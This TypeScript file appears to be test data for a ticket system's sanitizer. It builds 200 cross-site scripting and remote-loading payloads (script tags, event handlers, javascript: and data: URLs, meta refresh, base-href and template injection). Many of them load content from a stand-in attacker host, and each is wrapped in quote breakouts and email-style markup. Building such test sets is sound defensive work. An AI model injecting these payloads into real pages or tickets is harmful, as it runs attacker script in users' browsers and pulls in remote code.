/** Two hundred texts that strangers could write into a ticket to run something or to make a request. */

const RUN = 'globalThis.hacked=1';
const AWAY = 'https://evil.sympoq.com/hit';

const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href=${AWAY} /></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data=${AWAY}></object>`,
  `<embed src=${AWAY}>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<link rel=prefetch href=${AWAY}>`,
  `<style>@import url(${AWAY});*{background:url(${AWAY})}</style>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<video src=${AWAY} poster=${AWAY} autoplay></video>`,
  `<audio src=${AWAY} autoplay></audio>`,
  `<form action=${AWAY}><input name=a autofocus onfocus=${RUN}></form>`,
  `<button formaction=${AWAY}>x</button>`,
  `<base href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>" target=_top>x</a>`,
  `<a href=${AWAY} ping=${AWAY}>x</a>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `blob:${AWAY}`,
  `//evil.sympoq.com/hit`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `"><img src=x onerror=${RUN}>`,
  `'-(${RUN})-'`,
];

const WRAPS: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}<!--`,
  (payload) => `<p>Dear team,<br>${payload}</p>`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => `<!--[if gte mso 9]>${payload}<![endif]--><b>${payload}\u202e\u0000${payload}`,
];

/** 40 payloads × 5 wraps. */
export const HOSTILE_TEXTS: string[] = WRAPS.flatMap((wrap) => PAYLOADS.map(wrap));
